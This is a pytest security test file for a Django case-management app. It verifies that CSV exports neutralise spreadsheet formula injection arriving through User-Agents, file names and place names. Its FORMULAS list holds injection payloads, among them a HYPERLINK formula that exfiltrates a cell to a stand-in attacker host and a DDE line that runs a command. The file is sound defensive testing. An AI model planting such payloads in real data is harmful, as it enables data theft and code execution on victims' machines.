"""Item 5: a formula typed by anyone (a User-Agent, a file name, a place name) reaches no export as a formula.

Each export is fed through the door an attacker has, downloaded as its user would, and read back with the
csv module: no cell may start with a character a spreadsheet reads as a formula.
"""

import csv
import datetime
import io
import pathlib

import pytest
from django.urls import reverse

from cases import services as case_services
from common import csv_export
from evidence import services as evidence_services
from tests.security.fixtures_hardening import evidence_url, keyring  # noqa: F401

pytestmark = pytest.mark.usefixtures("keyring")

FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1", "＝1+1"]
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝")


def _cells(response) -> list[str]:
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8"))) for cell in row]


def _assert_neutral(cells, fed):
    dangerous = [c for c in cells if c.startswith(DANGEROUS)]
    assert not dangerous, dangerous
    # The value itself is still there, behind its quote: neutralised, not dropped.
    assert any(fed.strip() in c for c in cells), (fed, cells)


@pytest.mark.parametrize("formula", FORMULAS)
def test_audit_export_neutralises_a_user_agent(client, cast, sign_in, formula):
    sign_in(client, cast.caseworker1)
    assert client.get(reverse("cases:detail", kwargs={"reference": cast.case.reference}), HTTP_USER_AGENT=formula).status_code == 200
    sign_in(client, cast.admin1)
    cells = _cells(client.get(reverse("audit:export", kwargs={"fmt": "csv"})))
    _assert_neutral(cells, formula[:300])


@pytest.mark.parametrize("formula", FORMULAS)
def test_custody_csv_neutralises_a_file_name(client, cast, sign_in, formula):
    f = evidence_services.evidence_attach(
        actor=cast.caseworker1, case=cast.case, content=b"scan", original_name=formula + ".pdf", source_label=formula,
    )
    sign_in(client, cast.caseworker1)
    _assert_neutral(_cells(client.get(evidence_url("custody_export", cast.case, f, fmt="csv"))), formula)


def _event_at(cast, formula):
    place = case_services.location_create(actor=cast.caseworker1, data={"name": "SIZO-1", "region": formula, "city": formula})
    case_services.event_add(
        actor=cast.caseworker1, case=cast.case,
        data={"type": "detention", "date": datetime.date(2025, 3, 1), "date_precision": "day", "location": place},
    )


@pytest.mark.parametrize("formula", FORMULAS)
def test_statistics_csv_neutralises_a_place_name(client, cast, sign_in, formula):
    _event_at(cast, formula)
    sign_in(client, cast.caseworker1)
    for dimension in ("region", "facility"):
        response = client.get(reverse("patterns:stats_csv"), {"dimension": dimension, "measure": "events"})
        assert response.status_code == 200
        _assert_neutral(_cells(response), formula)


def test_research_export_neutralises_a_place_name(client, cast, sign_in, settings):
    settings.DALIL_SMALL_CELL_K = 1
    _event_at(cast, "=1+1")
    sign_in(client, cast.caseworker1)
    cells = _cells(client.get(reverse("patterns:research_export"), {"format": "csv"}))
    assert not [c for c in cells if c.startswith(DANGEROUS)]


def test_the_writer_keeps_numbers_and_quotes_only_text():
    out = io.StringIO()
    csv_export.writer(out).writerow([-5, 3.5, "-5", "plain", "", None, "a=b"])
    assert next(csv.reader(io.StringIO(out.getvalue()))) == ["-5", "3.5", "'-5", "plain", "", "", "a=b"]


def test_no_module_writes_csv_but_the_one_writer():
    """A new export cannot bypass the rule: csv.writer and csv.DictWriter appear only in common/csv_export.py."""
    root = pathlib.Path(__file__).resolve().parents[2]
    offenders = []
    for path in root.rglob("*.py"):
        rel = path.relative_to(root)
        if rel.parts[0] in (".venv", "tests", "var", "node_modules") or rel == pathlib.Path("common/csv_export.py"):
            continue
        text = path.read_text(encoding="utf-8", errors="replace")
        if "csv.writer(" in text or "csv.DictWriter(" in text or "from csv import" in text:
            offenders.append(str(rel))
    assert not offenders, f"write CSV through common.csv_export: {offenders}"
